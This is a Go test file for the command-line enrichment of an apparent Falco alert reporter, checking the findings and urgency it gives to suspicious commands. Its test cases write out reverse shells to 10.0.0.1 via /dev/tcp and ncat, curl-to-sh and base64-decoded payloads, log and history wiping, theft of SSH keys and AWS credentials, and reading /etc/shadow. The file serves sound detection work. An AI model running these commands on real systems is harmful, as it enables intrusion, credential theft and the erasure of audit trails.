package enrich_test

import (
	"strings"
	"testing"

	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
)

// TestCommandLines: what is read out of arguments, and how urgent it is by itself.
func TestCommandLines(t *testing.T) {
	e := enricher(t)
	for name, tc := range map[string]struct {
		proc, cmd string
		want      string // part of a finding; with a leading ! of none
		level     pb.UrgencyLevel
	}{
		"hex word":              {"bash", "bash -c echo 6375726c20687474703a2f2f6576696c2f61207c207368 | xxd -r -p | sh", "hex of “curl http://evil/a | sh”", page},
		"hex escapes":           {"printf", `printf \x69\x64\x3b\x6c\x73`, "hex of “id;ls”", record},
		"hash is no hex text":   {"sha256sum", "sha256sum 14dede8a94753a98cc2cc75294746e812483c90474018c62fc178ef400c994cd", "!hex", record},
		"number is no hex":      {"x", "x 1795313258364460168 0000000000000000", "!hex", record},
		"short base64":          {"bash", "bash -c echo aWQK | base64 -d | sh", "base64 of “id”", today},
		"credential":            {"curl", "curl -H Authorization: Basic dXNlcjpwYXNzIHdvcmQ=", "!base64", record},
		"here-document":         {"bash", "bash -c python3 - <<'EOF'\nimport os\nEOF", "A here-document in the command line holds “import os”", today},
		"here-string":           {"bash", `bash -c sh <<< "id; ls"`, "holds “id; ls”", today},
		"data document":         {"bash", "bash -c cat <<EOF\nhello\nEOF", "holds “hello”", record},
		"shift":                 {"bash", "bash -c echo $((1<<4))", "!here-document", record},
		"python code":           {"python3.11", "python3.11 -c import pty", "code stands in its arguments: “import pty”", record},
		"dev tcp":               {"bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/tcp", page},
		"dev tcp, same machine": {"bash", "bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "/dev/tcp", record},
		"port check":            {"bash", "bash -c echo > /dev/tcp/10.0.0.1/80", "/dev/tcp", record},
		"adds an account":       {"useradd", "useradd -m labuser", "ask to add the account “labuser”", today},
		"shows defaults":        {"useradd", "useradd -D", "!account", record},
		"mighty group":          {"usermod", "usermod -aG docker,www bob", "the group “docker”", today},
		"ordinary group":        {"usermod", "usermod -aG www bob", "!the group", record},
		"wipes history":         {"bash", "bash -c id; rm -f /root/.bash_history", "asks to wipe history", today},
		"wipes and decodes":     {"bash", "bash -c echo aWQK | base64 -d | sh; :> /var/log/syslog", "asks to wipe logs, run decoded code", page},
		"unset HISTFILE":        {"sh", "sh -c unset HISTFILE; id", "asks to wipe history", today},
		"writes its own log":    {"sh", "sh -c run >> /var/log/app.log; echo done > /var/log/app.done", "!wipe", record},
		"reads history":         {"cat", "cat /root/.bash_history", "!wipe", record},
		"names a secret":        {"tar", "tar czf /tmp/a.tgz /root/.ssh/id_rsa", "names “/root/.ssh/id_rsa”: it holds an SSH private key", record},
		"names by pattern":      {"find", "find / -iname *.aws/credentials", "names “*.aws/credentials”: files of such names hold credentials for AWS", record},
		"names by name":         {"find", "find / -name id_rsa", "names “id_rsa”: files of such names hold an SSH private key", record},
		"names nothing":         {"ls", "ls /usr/bin", "!names", record},
		"downloads":             {"curl", "curl -s https://evil.example/a", "its arguments name “https://evil.example/a”", record},
		"listens":               {"nc", "nc -l -p 4444 -q 1", "on port 4444", today},
		"listens, new style":    {"nc", "nc -lvnp 4445", "on port 4445", today},
		"listens, socat":        {"socat", "socat TCP-LISTEN:8080,fork EXEC:/bin/sh", "on port 8080", page},
		"hands out a shell":     {"ncat", "ncat 10.0.0.1 4444 -e /bin/sh", "hand the program “/bin/sh”", page},
		"connects":              {"nc", "nc -z 127.0.0.1 80", "!wait for connections", record},
		"privileged":            {"docker", "docker run --rm --privileged img", "with rights over the host (“--privileged”)", today},
		"mounts the host":       {"docker", "docker run -v /:/host img", "(“-v /:/host”)", today},
		"ordinary container":    {"docker", "docker run -v /srv/data:/data img", "!rights over", record},
	} {
		t.Run(name, func(t *testing.T) {
			r := e.Report(withFields(t, map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": tc.proc, "proc.cmdline": tc.cmd, "container.id": "host"}))
			got := strings.Join(statements(r), "\n")
			want, none := strings.CutPrefix(tc.want, "!")
			if strings.Contains(got, want) == none {
				t.Errorf("want %q in:\n%s", tc.want, got)
			}
			if level := r.GetUrgency().GetLevel(); level != tc.level {
				t.Errorf("urgency %v; want %v", r.GetUrgency(), tc.level)
			}
		})
	}
}

// TestParentsCommandLine: a parent with its code in its arguments tells of the intent.
func TestParentsCommandLine(t *testing.T) {
	fields := map[string]any{
		"evt.type": "openat", "evt.res": "SUCCESS", "proc.name": "touch", "proc.cmdline": "touch /x", "fd.name": "/x",
		"proc.pname": "bash", "proc.pcmdline": "bash -c touch /x; rm ~/.bash_history; echo aWQK | base64 -d | sh",
	}
	r := enricher(t).Report(withFields(t, fields))
	if got := strings.Join(statements(r), "\n"); !strings.Contains(got, "The parent's command line asks to wipe history, run decoded code.") {
		t.Error(got)
	}
	if r.GetUrgency().GetLevel() != page || !strings.Contains(strings.Join(r.GetNotShown(), "\n"), "parent's command line was done") {
		t.Errorf("%v, not shown %q", r.GetUrgency(), r.GetNotShown())
	}
	fields["evt.res"] = "EACCES"
	if u := enricher(t).Report(withFields(t, fields)).GetUrgency(); u.GetLevel() != record {
		t.Errorf("refused: %v", u)
	}
}

// TestNestedShells: the summary has the code of the innermost shell.
func TestNestedShells(t *testing.T) {
	r := enricher(t).Report(withFields(t, map[string]any{
		"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "bash", "user.name": "root",
		"proc.cmdline": `bash -c bash -c 'sh -c "bash -c \"id; cat /etc/shadow >/dev/null; whoami\"; true"; true'`,
	}))
	if want := "User “root” ran “bash -c … id; cat /etc/shadow >/dev/null; …” on “h”."; r.GetSummary() != want {
		t.Errorf("got %s\nwant %s", r.GetSummary(), want)
	}
}
